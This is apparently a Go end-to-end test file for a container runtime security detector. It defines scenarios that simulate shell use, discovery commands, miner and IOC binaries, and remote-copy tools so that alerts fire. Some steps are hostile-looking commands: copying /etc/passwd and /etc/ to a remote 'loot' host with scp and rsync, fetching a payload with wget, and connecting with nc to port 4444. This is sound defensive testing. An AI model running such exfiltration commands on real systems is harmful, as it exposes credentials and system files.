package e2e

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"time"

	"github.com/rtsec/rtsec/test/runc"
)

// Alert names the scenarios expect or forbid.
const (
	shellAlert      = "RtsecShellInContainer"
	unexpectedAlert = "RtsecUnexpectedExecInContainer"
	networkAlert    = "RtsecNetworkToolInContainer"
	minerAlert      = "RtsecMinerExecuted"
	iocAlert        = "RtsecIOCBinaryExecuted"
	newBinaryAlert  = "RtsecNewBinaryInWorkload"
	overflowAlert   = "RtsecExecLabelBudgetOverflow"
	remoteCopyAlert = "RtsecRemoteCopyToolInContainer"
)

// anyAlert forbids every alert on a scenario's containers.
var anyAlert = []Match{{}}

// firstReplica forbids every alert on a benign scenario's containers but the
// two list alerts of binaries outside a workload's profile. runc containers
// have no namespace, so each is the first replica of a workload with no
// history, which the startup profile gives the full rule set from its first
// second (docs/mixin.md): its entrypoint's binaries (sh, sleep, an init) and
// the helpers it runs are outside any profile and raise these warnings by
// design. A second replica (the CRI startup suite) must stay quiet.
var firstReplica = []Match{{Except: []string{unexpectedAlert, shellAlert}}}

// overflowNames is how many distinct binaries the overflow scenario runs:
// more than the exporter's default --collector.process.binary-budget (64).
const overflowNames = 100

// Scenarios is the table of end-to-end scenarios, run by TestE2E and by
// name by cmd/scenario. A scenario of a new signal is one more entry.
var Scenarios = []Scenario{
	{
		Name:        "shell-in-container",
		Description: "An attacker runs shell commands in a running container (sh -c).",
		Steps:       []Step{Cmd("sh", "-c", "id; hostname; cat /etc/passwd >/dev/null")},
		Expect:      []Match{Named(shellAlert, "binary", "sh"), Named(unexpectedAlert, "binary", "sh")},
		// A young workload has no history: the new-binary guard must hold.
		Forbid: []Match{Named(newBinaryAlert), Named(networkAlert), Named(minerAlert)},
	},
	{
		Name:        "unexpected-exec",
		Description: "Discovery commands outside the namespace allowlist (id, uname), run directly, without a shell.",
		Steps:       []Step{Cmd("id"), Cmd("uname", "-a")},
		Expect:      []Match{Named(unexpectedAlert, "binary", "id"), Named(unexpectedAlert, "binary", "uname")},
		Forbid:      []Match{Named(shellAlert), Named(networkAlert), Named(newBinaryAlert)},
	},
	{
		Name:        "network-tool",
		Description: "Remote copy and raw connection attempts with busybox wget and nc (they fail: the container has no network).",
		Steps: []Step{
			TryCmd("wget", "-q", "-T", "1", "-O", "/tmp/payload", "http://127.0.0.1:9/payload"),
			TryCmd("nc", "-w", "1", "127.0.0.1", "4444"),
		},
		Expect: []Match{Named(networkAlert, "binary", "wget"), Named(networkAlert, "binary", "nc")},
		Forbid: []Match{Named(shellAlert), Named(minerAlert)},
	},
	{
		Name:        "remote-copy-tool",
		Description: "Remote copy tools run in a container (scp, rsync and sftp: busybox links, the exec is what counts).",
		Setup: func(e *Env) {
			for _, tool := range []string{"scp", "rsync", "sftp"} {
				e.link("/usr/bin/" + tool)
			}
		},
		Steps: []Step{
			TryCmd("/usr/bin/scp", "/etc/passwd", "backup@203.0.113.10:/tmp/"),
			TryCmd("/usr/bin/rsync", "-a", "/etc/", "203.0.113.10::loot"),
			TryCmd("/usr/bin/sftp", "backup@203.0.113.10"),
		},
		Expect: []Match{
			Named(remoteCopyAlert, "binary", "scp"), Named(remoteCopyAlert, "binary", "rsync"), Named(remoteCopyAlert, "binary", "sftp"),
			Named(networkAlert, "binary", "scp"), Named(networkAlert, "binary", "rsync"), Named(networkAlert, "binary", "sftp"),
		},
		Forbid: []Match{Named(minerAlert)},
	},
	{
		Name:        "miner-in-container",
		Description: "A binary named xmrig (a busybox link) is executed in a container.",
		Setup:       func(e *Env) { e.link("/tmp/xmrig") },
		Steps:       []Step{TryCmd("/tmp/xmrig", "--donate-level", "1")},
		Expect:      []Match{Named(minerAlert, "binary", "xmrig")},
		Forbid:      []Match{Named(shellAlert), Named(networkAlert)},
	},
	{
		Name: "miner-on-host",
		Description: "A binary named xmrig runs on the host, outside any container: the miner class alert covers the host too. " +
			"(The binary-name alert may not see it: a busy host cgroup spends its kernel name budget, and classes are counted before it.)",
		Setup:      func(e *Env) { e.hostBinary("xmrig") },
		Action:     func(e *Env) { e.runHost("xmrig") },
		NoVariants: "runs on the host: there is no container to start",
		Expect:     []Match{Named("RtsecMinerClassExecuted", "container_id", "", "class", "miner")},
	},
	{
		Name:        "ioc-binary",
		Description: "A binary named kinsing (threat-intelligence IOC list; a busybox link) is executed in a container.",
		Setup:       func(e *Env) { e.link("/tmp/kinsing") },
		Steps:       []Step{TryCmd("/tmp/kinsing")},
		Expect:      []Match{Named(iocAlert, "binary", "kinsing")},
		Forbid:      []Match{Named(minerAlert), Named(shellAlert)},
	},
	{
		Name: "new-binary-in-workload",
		Description: "An established workload (history older than the learning period) copies busybox to /tmp/busyboxd " +
			"and runs it. Outside Kubernetes the workload key is the container id.",
		Age:        duration(LearningPeriod) + 15*time.Second,
		Steps:      []Step{Cmd("cp", "/bin/busybox", "/tmp/busyboxd"), Cmd("/tmp/busyboxd", "true")},
		NoVariants: "needs an established workload: history older than the learning period, which a new container has not",
		Expect:     []Match{Named(newBinaryAlert, "binary", "busyboxd")},
		Forbid:     []Match{Named(shellAlert)},
	},
	{
		Name:        "exec-label-budget-overflow",
		Description: fmt.Sprintf("A container execs %d distinct binary names, more than the exporter's per-container budget: the rest count as _other.", overflowNames),
		Setup:       func(e *Env) { e.overflowLinks(overflowNames) },
		Steps:       []Step{Cmd("sh", "/x/run.sh")},
		Expect:      []Match{Named(overflowAlert, "binary", "_other")},
	},
	{
		Name: "benign-busy-service",
		Description: "A shell-less service (busybox init) respawns its helpers date, uptime and df about once a second, " +
			"and gets exec probes (ps): busy, normal, allowlisted.",
		Benign: true,
		Container: runc.Options{Args: []string{"/bin/init"}, Files: map[string][]byte{
			"etc/inittab": []byte("::respawn:/bin/date\n::respawn:/bin/uptime\n::respawn:/bin/df /\n"),
		}},
		Action: func(e *Env) {
			for range 3 {
				e.Exec("ps")
			}
		},
		Forbid: firstReplica,
	},
	{
		Name: "benign-container-churn",
		Description: fmt.Sprintf("Rounds of %d short-lived containers (%v each) whose entrypoint script runs a shell and helpers, "+
			"as jobs and crash loops do: the startup grace hides them.", churnContainers, churnLifetime),
		Benign: true,
		Action: func(e *Env) {
			for range churnRounds {
				var round []*runc.Container
				for range churnContainers {
					round = append(round, e.Start(runc.Options{Args: []string{"sh", "-c", "date; uptime; hostname; exec sleep 1000000"}}))
				}
				time.Sleep(churnLifetime)
				for _, c := range round {
					e.Delete(c)
				}
			}
		},
		Forbid: firstReplica,
	},
}

// Churn: rounds of containers alive long enough for two scrapes (1s), so
// the rules see them young. One that dies before its first scrape is never
// seen young and its entrypoint alerts (docs/e2e.md, known gaps).
const (
	churnRounds     = 3
	churnContainers = 4
	churnLifetime   = 3 * time.Second
)

// Find returns the scenario called name.
func Find(name string) (Scenario, bool) {
	for _, s := range Scenarios {
		if s.Name == name {
			return s, true
		}
	}
	return Scenario{}, false
}

// Names lists the scenarios' names in table order.
func Names() []string {
	names := make([]string, len(Scenarios))
	for i, s := range Scenarios {
		names[i] = s.Name
	}
	return names
}

// link makes path in the main container a symlink to busybox: an exec of
// it counts under the link's name (busybox then finds no such applet).
func (e *Env) link(path string) {
	e.T.Helper()
	dst := filepath.Join(e.Main().Rootfs(), path)
	if err := os.MkdirAll(filepath.Dir(dst), 0o755); err != nil {
		e.T.Fatalf("link %s: %v", path, err)
	}
	if err := os.Symlink("/bin/busybox", dst); err != nil {
		e.T.Fatalf("link %s: %v", path, err)
	}
}

// overflowLinks writes n busybox links /x/b000… into the main container and
// /x/run.sh, which execs each.
func (e *Env) overflowLinks(n int) {
	e.T.Helper()
	dir := filepath.Join(e.Main().Rootfs(), "x")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		e.T.Fatal(err)
	}
	script := &strings.Builder{}
	for i := range n {
		name := fmt.Sprintf("b%03d", i)
		if err := os.Symlink("/bin/busybox", filepath.Join(dir, name)); err != nil {
			e.T.Fatal(err)
		}
		fmt.Fprintf(script, "/x/%s 2>/dev/null\n", name)
	}
	script.WriteString("exit 0\n")
	if err := os.WriteFile(filepath.Join(dir, "run.sh"), []byte(script.String()), 0o755); err != nil {
		e.T.Fatal(err)
	}
}

// hostBinary copies /bin/true to a temporary directory of the host under
// name, for runHost.
func (e *Env) hostBinary(name string) {
	e.T.Helper()
	data, err := os.ReadFile("/bin/true")
	if err != nil {
		e.T.Fatal(err)
	}
	e.hostDir = e.T.TempDir()
	if err := os.WriteFile(filepath.Join(e.hostDir, name), data, 0o755); err != nil {
		e.T.Fatal(err)
	}
}

// runHost runs the binary hostBinary prepared, on the host.
func (e *Env) runHost(name string) {
	e.T.Helper()
	if out, err := exec.Command(filepath.Join(e.hostDir, name)).CombinedOutput(); err != nil {
		e.T.Fatalf("run %s on the host: %v: %s", name, err, out)
	}
}
